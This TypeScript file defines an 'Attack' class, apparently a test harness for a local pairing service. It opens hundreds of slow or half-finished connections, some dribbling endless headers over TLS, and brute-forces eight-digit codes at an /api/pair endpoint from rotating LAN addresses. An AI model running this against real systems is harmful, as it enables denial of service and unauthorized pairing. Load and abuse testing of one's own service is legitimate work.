import { once } from 'node:events';
import { request } from 'node:https';
import type { Socket } from 'node:net';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

export interface AttackOptions {
  readonly ports: readonly number[];
  /** Where codes are tried. */
  readonly codePort: number;
  readonly target: string;
}

const ADDRESSES = 50;
/** So many of the connections are asked to be gone by then before more are made. */
const AT_ONCE = 50;
const UNDER_WAY = 500;

/** What fifty machines of a LAN can do who have no code. */
export class Attack {
  readonly #options: AttackOptions;
  readonly #begun: PromiseWithResolvers<void> = Promise.withResolvers();
  connections = 0;
  tries = 0;

  constructor(options: AttackOptions) {
    this.#options = options;
  }

  /** Resolves once the limits are reached. */
  get isUnderWay(): Promise<void> {
    return this.#begun.promise;
  }

  /** Opens so many connections, which stay for as long as they are left, and tries so many codes. */
  async run(connections: number, tries: number): Promise<void> {
    const sockets: Socket[] = [];
    const guessing = this.#tryCodes(tries);
    while (this.connections < connections) {
      for (let n = 0; n < AT_ONCE; n += 1) sockets.push(this.#openOne());
      if (this.connections >= UNDER_WAY) this.#begun.resolve();
      await sleep(100);
    }
    await guessing;
    for (const socket of sockets) socket.destroy();
  }

  #address(n: number): string {
    return this.#options.target.replace(/\d+$/, String(2 + (n % ADDRESSES)));
  }

  /** In turn: silent; half a request line; TLS and then headers that never end. */
  #openOne(): Socket {
    const n = this.connections;
    this.connections += 1;
    const { target: host, ports } = this.#options;
    const where = { host, port: ports[n % ports.length] ?? 0, localAddress: this.#address(n) };
    const kind = n % 3;
    const socket =
      kind === 2 && where.port === this.#options.codePort
        ? connectTls({ ...where, rejectUnauthorized: false })
        : connect(where);
    socket.on('error', () => undefined);
    if (kind > 0) socket.once(kind === 2 ? 'secureConnect' : 'connect', () => dribble(socket));
    return socket;
  }

  async #tryCodes(tries: number): Promise<void> {
    const lane = async () => {
      while (this.tries < tries) {
        this.tries += 1;
        await this.#tryCode(this.tries).catch(() => undefined);
      }
    };
    await Promise.all(Array.from({ length: 8 }, lane));
  }

  async #tryCode(n: number): Promise<void> {
    const { target, codePort } = this.#options;
    const origin = `https://${target}:${codePort}`;
    const asked = request(`${origin}/api/pair`, {
      ...{ method: 'POST', localAddress: this.#address(n), rejectUnauthorized: false, agent: false },
      headers: { origin, 'content-type': 'application/json' },
      timeout: 10_000,
    });
    asked.on('timeout', () => asked.destroy());
    asked.end(JSON.stringify({ code: String(10_000_000 + n) }));
    await once(asked, 'close');
  }
}

/** A header a second, without end. */
function dribble(socket: Socket): void {
  socket.write('GET / HTTP/1.1\r\n');
  const dribbling = setInterval(() => socket.write('x: y\r\n'), 1_000);
  socket.once('close', () => clearInterval(dribbling));
}
